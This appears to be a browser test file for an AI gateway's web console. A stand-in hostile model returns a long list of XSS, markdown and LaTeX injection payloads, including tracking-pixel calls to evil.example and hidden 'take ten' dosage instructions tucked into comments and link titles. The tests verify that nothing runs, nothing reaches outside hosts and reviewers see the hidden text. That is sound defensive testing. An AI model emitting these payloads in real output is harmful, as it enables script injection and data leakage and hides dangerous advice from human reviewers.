import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, describe, expect, test } from 'vitest'
import { completion } from '../support/openai-answers.ts'
import { BROWSER } from './browser.ts'
import { openConsole } from './open-console.ts'
import { ask } from './practice-traffic.ts'
import { problemsOf } from './problems-of.ts'

/** Each tries to run `hit()` or to reach evil.example. */
const HOSTILE = [
  '<script>hit()</script>',
  '<img src=x onerror="hit()">',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus="hit()">x</button></form>',
  '<details open ontoggle="hit()">x</details>',
  '<video><source onerror="hit()"></video>',
  '<input autofocus onfocus="hit()">',
  '<a href="javascript:hit()">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '[click](javascript:hit())',
  '[click](JaVaScRiPt:hit())',
  '[click](java&#10;script:hit())',
  '[click](data:text/html,<script>hit()</script>)',
  '[click](vbscript:hit())',
  '<javascript:hit()>',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](javascript:hit())',
  '![x][1]\n\n[1]: https://evil.example/pixel.png',
  '[![x](https://evil.example/pixel.png)](javascript:hit())',
  '![x](data:image/svg+xml,<svg onload=hit()>)',
  '$\\href{javascript:hit()}{x}$',
  '$\\url{javascript:hit()}$',
  '$\\includegraphics{https://evil.example/pixel.png}$',
  '$\\htmlData{x=1}{y}\\htmlStyle{background:url(https://evil.example/p)}{z}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '```html\n<script>hit()</script>\n```',
  '```"><img/src=x/onerror=hit()>\nx\n```',
  '`<img src=x onerror=hit()>`',
  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
  '- [ ] <img src=x onerror=hit()>',
  'x[^1]\n\n[^1]: <img src=x onerror=hit()>',
  '{{constructor.constructor("hit()")()}}',
  '<!-- take ten -->',
  '![x](https://evil.example/pixel.png "take ten")',
  '[comment]: # (take eleven)',
  '[click](https://evil.example/ "take twelve")',
  '[click](pills:take-thirteen)',
  '[click][2]\n\n[2]: pills:take-fourteen\n[2]: https://evil.example/take-fifteen',
  '[^3]: take sixteen',
  '```python take-seventeen=1\nx = 1\n```',
  '| a |\n|---|\n| b | take eighteen |',
  '[click][take nineteen]\n\n[take nineteen]: https://evil.example/',
  '$$ take twenty\nx\n$$',
  '~~~take_twenty-one,now\nx\n~~~',
  '\u202egm 0004 ekat\u202c',
  '<div id="root"></div><div id="content" style="background:url(https://evil.example/p)">x</div>',
]

const NAME = '<img src=x onerror=hit()>'
const ANSWER = HOSTILE.join('\n\n')
let upstream: Server

const site = openConsole(async () => {
  upstream = createServer(async (request, response) => {
    let asked = ''
    for await (const piece of request) asked += piece
    response.setHeader('content-type', 'application/json')
    response.end(JSON.stringify(hostileCompletion('tools' in JSON.parse(asked))))
  })
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
  const { port } = upstream.address() as AddressInfo
  return {
    config: `models:
  - { id: evil, provider: openai, base_url: "http://127.0.0.1:${port}/v1", model: evil, api_key: k, allow_private: true }
lines: { first: [evil], second: [evil] }
content: { store: true }
oversight: { held_notice: { en: '${NAME}' } }
`,
  }
})
afterAll(() => upstream?.close())

describe.skipIf(BROWSER === undefined)('what a hostile model writes', () => {
  test('runs nothing and reaches nothing on the pages of a run and in the playground', async () => {
    const answer = await ask(site.gateway.url, `What do you say? ${ANSWER}`)
    expect(answer.secondline?.run).toBeDefined()
    const { page, seen } = await watchedPage()
    await page.goto(`${site.gateway.url}/console/runs/${answer.secondline?.run}`)
    await page.locator('.katex').first().waitFor({ state: 'attached' })
    await followLinks(page)

    await page.goto(`${site.gateway.url}/console/playground`)
    await page.getByLabel('Prompt').fill('Say it')
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByText('All answers are here').waitFor({ state: 'attached' })
    await page.locator('.katex').first().waitFor({ state: 'attached' })
    await followLinks(page)

    await expectNothing(page, seen)
  })

  test('hides nothing from whoever decides whether it goes out', async () => {
    const { secondline } = await ask(site.gateway.url, 'Can I take warfarin and aspirin together?')
    const { page, seen } = await watchedPage()
    await page.goto(`${site.gateway.url}/console/reviews/${secondline?.review?.id}`)
    const draft = page.getByRole('region', { name: 'Question and draft' })
    // There are signs in it that are not seen, so it is shown as it was written to begin with.
    await draft.getByText('U+202E').waitFor()
    await draft.getByText('<!-- take ten -->').waitFor()
    await page.getByRole('switch', { name: 'As it is written' }).press('Space')
    await draft.getByText('U+202E').waitFor({ state: 'detached' })
    await draft.getByText('<!-- take ten -->').waitFor()
    await draft.getByText('<script>hit()</script>', { exact: true }).first().waitFor()
    await draft.getByText('[picture of evil.example: x, take ten]').waitFor()
    await draft.getByText('[comment]: # "take eleven"').waitFor()
    await draft.getByText('(take twelve)').waitFor()
    await draft.getByText('(pills:take-thirteen)').waitFor()
    await draft.getByText('(pills:take-fourteen)').waitFor()
    await draft.getByText('[2]: https://evil.example/take-fifteen').waitFor()
    await draft.getByText('take sixteen').waitFor()
    await draft.getByText('python take-seventeen=1').waitFor()
    await draft.getByText('take eighteen').waitFor()
    await draft.getByText('[take nineteen]').waitFor()
    await draft.getByText('take twenty', { exact: true }).waitFor()
    await draft.getByText('take_twenty-one,now').waitFor()
    await draft.getByText('(javascript:hit())').first().waitFor()
    await expectNothing(page, seen)
  })

  test('nor do calls of tools, and what is written beside a review', async () => {
    const held = (await send('/v1/chat/completions', {
      model: 'auto',
      messages: [{ role: 'user', content: `Can I take warfarin and aspirin together? ${ANSWER}` }],
      tools: [{ type: 'function', function: { name: 'look_up', parameters: { type: 'object' } } }],
      secondline: { conversation: NAME },
    })) as unknown as Awaited<ReturnType<typeof ask>>
    const id = held.secondline?.review?.id
    const review = `/v1/reviews/${id}`
    await send(`${review}/notes`, { note: ANSWER.slice(0, 4000) })
    await send('/v1/feedback', { run: held.secondline?.run, score: 0, note: ANSWER.slice(0, 900) })
    const { fence } = (await send(`${review}/lease`, {})) as unknown as { readonly fence: number }
    await send(`${review}/release`, { fence })
    await send('/v1/batches', {
      input_file_id: await uploaded(`${NAME}.jsonl`),
      endpoint: '/v1/chat/completions',
      completion_window: '24h',
      metadata: { [NAME]: NAME },
    })
    const { page, seen } = await watchedPage()
    for (const path of [
      `/reviews/${id}`,
      `/runs/${held.secondline?.run}`,
      `/dossiers/${id}`,
      '/batches',
      '/settings',
    ]) {
      await page.goto(`${site.gateway.url}/console${path}`)
      await page.locator('main').getByText('onerror').first().waitFor({ state: 'attached' })
      await followLinks(page)
    }
    await expectNothing(page, seen)
  })

  test('and what documents, reports and names say, do nothing on the pages that show them', async () => {
    const { secondline } = await ask(site.gateway.url, 'What is 2 + 2?')
    const incident = await send('/v1/incidents', { summary: ANSWER, severity: 'minor' })
    await send(`/v1/incidents/${incident.id}/notes`, { text: ANSWER })
    await send('/v1/legal-holds', {
      kind: 'run',
      target: secondline?.run,
      reason: ANSWER.slice(0, 1900),
    })
    await send('/v1/stops', { kind: 'line', target: 'creative', reason: ANSWER.slice(0, 900) })
    await send('/admin/keys', { name: NAME })
    await send('/admin/knowledge/shop', {}, 'PUT')
    await send('/admin/knowledge/shop/documents', { source: `${NAME}.txt`, content: ANSWER })
    await send('/admin/people', { name: NAME, password: 'correct horse battery', role: 'reviewer' })
    const { page, seen } = await watchedPage()
    for (const [path, text] of [
      [`/incidents/${incident.id}`, 'What was done'],
      ['/incidents', 'onerror'],
      ['/legal-holds', 'onerror'],
      ['/stops', 'onerror'],
      ['/keys', 'onerror'],
      ['/people', 'onerror'],
      ['/audit', 'onerror'],
      ['/knowledge/shop', 'onerror'],
    ] as const) {
      await page.goto(`${site.gateway.url}/console${path}`)
      await page.locator('main').getByText(text).first().waitFor()
    }
    await page.getByLabel('Question').fill('hit evil example')
    await page.getByRole('button', { name: 'Search' }).click()
    await page.getByRole('region', { name: 'Passages' }).getByText('onerror').first().waitFor()
    await expectNothing(page, seen)
  })
})

interface Seen {
  hits: number
  readonly outside: string[]
  readonly problems: readonly string[]
}

/** A page whose scripts, dialogs and requests to elsewhere are counted. */
async function watchedPage(): Promise<{ readonly page: Page; readonly seen: Seen }> {
  const page = await site.browser.newPage()
  const seen: Seen = { hits: 0, outside: [], problems: problemsOf(page) }
  await page.exposeFunction('hit', () => {
    seen.hits += 1
  })
  page.on('dialog', () => {
    seen.hits += 1
  })
  await page.route('**/*', (route) => {
    const url = route.request().url()
    if (url.startsWith(site.gateway.url) || url.startsWith('data:')) return route.continue()
    seen.outside.push(url)
    return route.abort()
  })
  return { page, seen }
}

async function expectNothing(page: Page, { hits, outside, problems }: Seen): Promise<void> {
  expect({ hits, outside, problems }).toEqual({ hits: 0, outside: [], problems: [] })
  expect(await page.locator('main img, main iframe, main object, main script').count()).toBe(0)
  await page.close()
}

async function send(
  path: string,
  body: unknown,
  method = 'POST',
): Promise<{ readonly id: string }> {
  const response = await fetch(site.gateway.url + path, {
    method,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  expect(response.ok, `${path}: ${response.status}`).toBe(true)
  return (await response.json()) as { readonly id: string }
}

async function uploaded(name: string): Promise<string> {
  const form = new FormData()
  form.append('purpose', 'batch')
  const body = { model: 'auto', messages: [{ role: 'user', content: ANSWER }] }
  const line = { custom_id: NAME, method: 'POST', url: '/v1/chat/completions', body }
  form.append('file', new Blob([JSON.stringify(line)]), name)
  const response = await fetch(`${site.gateway.url}/v1/files`, { method: 'POST', body: form })
  return ((await response.json()) as { readonly id: string }).id
}

/** Clicks what a person could be led to click; links to other sites are none of it. */
async function followLinks(page: Page): Promise<void> {
  for (const link of await page.getByRole('link', { name: /^(?:click|x)$/ }).all()) {
    await link.click({ timeout: 1000 }).catch(() => undefined)
  }
}

/** @param calls a tool too, whose name and arguments are hostile */
function hostileCompletion(calls: boolean): object {
  const called = { name: NAME, arguments: JSON.stringify({ [NAME]: ANSWER }) }
  const message = {
    content: ANSWER,
    ...(calls ? { tool_calls: [{ id: NAME, type: 'function', function: called }] } : {}),
  }
  return completion(message, calls ? 'tool_calls' : 'stop')
}
